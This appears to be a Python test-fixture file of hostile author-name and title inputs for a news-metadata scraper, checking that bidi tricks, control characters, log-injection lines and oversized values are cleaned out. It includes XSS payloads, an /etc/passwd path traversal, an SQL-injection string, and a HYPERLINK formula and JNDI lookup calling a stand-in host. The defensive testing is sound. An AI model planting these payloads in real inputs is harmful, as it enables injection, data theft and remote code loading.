"""Names that are none, that hide something, or that would do something elsewhere."""

from __future__ import annotations

import json

from tests.hostile.poisons.poison import TITLE, Poison, article, news

NOBODY: tuple[tuple[str, ...], ...] = ((),)
ANN: tuple[tuple[str, ...], ...] = (("Ann Lee",), ())
HIDDEN = tuple("\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\ufeff")
CONTROLS = tuple(map(chr, (*range(9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0))))


def _author(name: str) -> str:
    return news(f'"author": {{"@type": "Person", "name": {json.dumps(name)}}}'.replace("<", "\\u003c"))


DATA = {
    "right-to-left": ("Ann \u202eeeL", ((), ("Ann eeL",)), HIDDEN),
    "an isolate": ("\u2066Ann Lee\u2069", ANN, HIDDEN),
    "zero width": ("A\u200bnn\ufeff Lee\u2060", ANN, HIDDEN),
    "controls": ("Ann\x07 \x08Lee\x7f", ANN, CONTROLS),
    "an escape": ("\x1b[31mAnn Lee\x1b[0m", ANN, (*CONTROLS, "[31m")),
    "a C1 control": ("Ann Lee\x9b31m", (), CONTROLS),
    "a NUL": ("Ann\x00 Lee", ANN, CONTROLS),
    "a line of a log": ("Ann Lee\n2025-06-01 [scrapy] ERROR: all is lost", ANN, ("\n2025", "\r", "ERROR")),
    "half a character": ("Ann Lee\ud800", ANN, ()),
    "flags": ("🇺🇳 🏴󠁧󠁢󠁥󠁮󠁧󠁿", (*NOBODY, ("🇺🇳 🏴󠁧󠁢󠁥󠁮󠁧󠁿",)), ()),
    "letters that look alike": ("Аnn Lее", (("Аnn Lее",), ()), ()),
    "a million letters": ("A" * 1_000_000, NOBODY, ()),
    "a million names": ("Ann Lee, " * 100_000, (*ANN,), ()),
    "a script": ("<script>alert(1)</script>", NOBODY, ("<script", "alert(1)")),
    "bold": ("<b>Ann Lee</b>", ANN, ("<b>",)),
    "a picture": ("<img src=x onerror=alert(1)>Ann Lee", ANN, ("<img", "onerror")),
    "a path": ("../../../../etc/passwd", NOBODY, ("etc/passwd",)),
    "a query": ("Robert'); DROP TABLE authors;--", ((), ("Robert",)), ()),
    "a formula": ('=HYPERLINK("http://owl.example","Ann Lee")', (*ANN,), ("HYPERLINK",)),
    "a template": ("${jndi:ldap://owl.example/a}", NOBODY, ("jndi",)),
    "only marks": ("-—–", NOBODY, ()),
    "combining marks": ("Z" + "\u0301" * 10_000, NOBODY, ()),
}
SHAPES = {
    "a number": "7",
    "true": "true",
    "NaN": "NaN",
    "an empty list": "[]",
    "a list in lists": "[[[[[]]]]]",
    "an object in objects": '{"name": {"name": {"name": {}}}}',
    "an address": '"https://kite.example/people/ann"',
}

POISONS = (
    *(
        Poison(f"author: {name}", article("", _author(raw)), authors=right or None, never=never)
        for name, (raw, right, never) in DATA.items()
    ),
    *(
        Poison(f"author of another type: {name}", article("", news(f'"author": {raw}')), authors=NOBODY)
        for name, raw in SHAPES.items()
    ),
    Poison(
        "10,000 authors",
        article("", news('"author": [' + ", ".join(f'{{"name": "Ann Lee {n}"}}' for n in range(10_000)) + "]")),
    ),
    Poison(
        "a byline with a reference to a control",
        article("<p class='byline'>By Ann&#27;[31m Lee&#0;</p>"),
        never=CONTROLS,
    ),
    Poison(
        "a title that hides a part",
        lambda: article()().replace(TITLE.encode(), "How the \u202etide\u202c tur\u200bned".encode()),
        title=(TITLE,),
        never=HIDDEN,
    ),
)
